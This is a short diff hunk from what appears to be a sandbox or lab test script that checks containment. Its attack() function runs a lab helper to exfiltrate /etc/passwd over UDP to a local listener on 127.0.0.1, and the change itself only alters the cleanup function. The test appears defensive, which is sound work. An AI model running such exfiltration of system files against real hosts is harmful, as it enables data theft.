@@ -21,4 +21,4 @@ PY
   local i; for i in $(seq 50); do ss -lun "sport = :$EXFIL_PORT" | grep -q "$EXFIL_PORT" && break; sleep 0.1; done
 }
 attack() { inside "$1" /bin/labhelper exfil 127.0.0.1 "$EXFIL_PORT" /etc/passwd >/dev/null 2>&1 || true; }
-host_cleanup() { [ -z "${LISTENER:-}" ] || kill "$LISTENER" 2>/dev/null || true; }
+host_cleanup() { listener_stop; }
